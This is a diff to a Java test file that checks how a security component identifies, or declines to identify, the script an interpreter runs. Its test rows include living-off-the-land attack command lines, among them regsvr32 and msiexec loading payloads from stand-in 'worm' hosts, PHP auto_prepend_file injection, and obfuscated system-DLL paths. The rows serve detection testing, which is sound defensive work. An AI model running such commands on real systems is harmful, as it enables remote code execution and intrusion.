@@ -21,7 +21,10 @@ class InterpretersTest {
             perl           | perl -wT /opt/scan.pl -e                                 | /opt/scan.pl
             ruby3.1        | ruby -w scan.rb                                          | scan.rb
             node           | node --max-old-space-size=512 --no-warnings app.js -r y  | app.js
+            node           | node --trace-warnings --trace-exit app.js                | app.js
             php8.2         | php -n -f /opt/scan.php                                  | /opt/scan.php
+            php            | php -f /opt/scan.php -n -- -r code                       | /opt/scan.php
+            php            | php -f /opt/scan.php fast -r code                        | /opt/scan.php
             java           | java -Xmx64m -XX:+UseSerialGC -jar /opt/scan.jar -cp x   | /opt/scan.jar
             javaw.exe      | javaw -Dfile.encoding=UTF-8 -jar C:\\scan.jar            | C:\\scan.jar
             PowerShell.exe | powershell -NoP -ExecutionPolicy Bypass -File C:\\s.ps1  | C:\\s.ps1
@@ -63,7 +66,13 @@ class InterpretersTest {
             node           | node --import=./worm.mjs app.js          | --import
             node           | node --eval=1 app.js                     | in its arguments
             node           | node -pe 1 app.js                        | in its arguments
+            node           | node --trace-event-categories a.js w.js  | --trace-event-categories
+            node           | node --trace-event-file-pattern a.js w   | --trace-event-file-pattern
             php            | php -d auto_prepend_file=/tmp/x s.php    | -d
+            php            | php -f a.php -d auto_prepend_file=/tmp/x | -d
+            php            | php -f a.php -r code                     | in its arguments
+            php            | php -f a.php -f worm.php                 | -f
+            perl           | perl -n /opt/scan.pl worm               | -n
             java           | java -cp /tmp Worm                       | -cp
             java           | java Worm.java                           | a class
             java           | java @arguments                          | a class
@@ -84,6 +93,12 @@ class InterpretersTest {
             rundll32.exe   | rundll32 C:\\Windows\\System32\\shell32.dll,Control_RunDLL x | a library of Windows
             rundll32.exe   | rundll32 javascript:\\..\\mshtml,Run     | without its folder
             regsvr32.exe   | regsvr32 /i:http://worm/x.sct C:\\s.dll  | in its arguments
+            regsvr32.exe   | regsvr32 C:\\s.dll C:\\worm.dll            | behind the library
+            regsvr32.exe   | regsvr32 C:\\s.dll /i:http://worm/x.sct  | behind the library
+            regsvr32.exe   | regsvr32 C:\\x\\..\\Windows\\System32\\scrobj.dll | a library of Windows
+            rundll32.exe   | rundll32 C:\\x\\..\\Windows\\System32\\shell32.dll,Run x | a library of Windows
+            rundll32.exe   | rundll32 C:/./Windows./System32//shell32.dll,Run x | a library of Windows
+            msiexec.exe    | msiexec /i C:\\s.msi /i C:\\worm.msi      | /i
             msiexec.exe    | msiexec /i C:\\s.msi TRANSFORMS=C:\\w    | TRANSFORMS
             msiexec.exe    | msiexec /i http://worm.example/x.msi     | does not tell
             dotnet         | dotnet run                               | does not tell
@@ -92,6 +107,19 @@ class InterpretersTest {
             cmd.exe        | cmd /c ping C:\\s.bat                    | in its arguments
             svchost.exe    | svchost -k netsvcs                       | not known here
             fish           | fish scan.fish                           | not known here
+            tcsh           | tcsh scan.csh                            | not known here
+            ash            | ash scan.sh                              | not known here
+            gawk           | gawk -f scan.awk                         | not known here
+            mawk           | mawk -f scan.awk                         | not known here
+            awk            | awk -f scan.awk                          | not known here
+            pypy3.10       | pypy3 scan.py                            | not known here
+            deno           | deno run scan.ts                         | not known here
+            bun            | bun scan.ts                              | not known here
+            expect         | expect scan.exp                          | not known here
+            wish8.6        | wish scan.tcl                            | not known here
+            ld-linux-x86-64.so.2 | ld.so /tmp/worm                    | not known here
+            ld-2.31.so     | ld.so /tmp/worm                          | not known here
+            ld-musl-x86_64.so.1 | ld.so /tmp/worm                     | not known here
             """)
     void saysWhyItIsNotTold(String image, String commandLine, String why) {
         assertThat(Interpreters.script(image, arguments(commandLine)))
@@ -101,9 +129,18 @@ class InterpretersTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"curl", "pythonista", "nmap", "python3-worm", ""})
+    @ValueSource(strings = {"curl", "pythonista", "nmap", "python3-worm", "libld.so.2", "ld", ""})
     void aProgramOfAnotherNameIsNone(String image) {
         assertThat(Interpreters.script(image, List.of(image, "/opt/scan.py"))).isEqualTo(new ScriptArgument.None());
+    }
+
+    @Test
+    void aLibraryOfWindowsIsKnownByItsRealPathHoweverTheArgumentsWroteIt() {
+        assertThat(Interpreters.refusal("rundll32.exe", "C:\\Windows\\System32\\shell32.dll"))
+                .hasValueSatisfying(refusal -> assertThat(refusal.reason()).contains("a library of Windows"));
+        assertThat(Interpreters.refusal("rundll32.exe", "C:\\Tools\\s.dll")).isEmpty();
+        assertThat(Interpreters.refusal("notepad.exe", "C:\\Windows\\System32\\shell32.dll"))
+                .isEmpty();
     }
 
     @Test
